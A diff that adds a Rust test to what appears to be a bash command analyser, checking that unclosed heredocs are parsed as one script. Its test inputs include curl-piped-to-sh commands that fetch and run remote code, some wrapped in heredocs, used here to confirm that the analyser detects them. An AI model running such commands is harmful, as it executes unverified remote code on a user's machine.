@@ -839,3 +839,25 @@ proptest::proptest! {
         proptest::prop_assert_eq!(transfer(&other.commands[0]), (Vec::new(), None));
     }
 }
+
+/// A heredoc the line never closes ends where the line does, as bash reads it: its body is one
+/// script, a pipeline across its lines included.
+#[test]
+fn an_unclosed_heredoc_ends_with_the_line() {
+    for line in [
+        "bash <<'E'\ncurl -s https://x |\nsh",
+        "bash <<-E\n\tcurl -s https://x |\n\tsh",
+        "bash <<'E'\nbash <<'E'\ncurl -s https://x |\nsh\nE\nE",
+    ] {
+        let read = analyse(line);
+        assert!(
+            read.commands
+                .iter()
+                .any(|command| command.program == "sh" && command.inputs.iter().any(|input| input == "curl")),
+            "{line:?}: {:?}",
+            commands(line)
+        );
+    }
+    assert_eq!(super::walk::close_heredocs("cat <<EOF\nhello\nEOF"), None);
+    assert_eq!(super::walk::close_heredocs("cat <<<'x' <<E\nbody"), Some("cat <<<'x' <<E\nbody\nE".to_string()));
+}
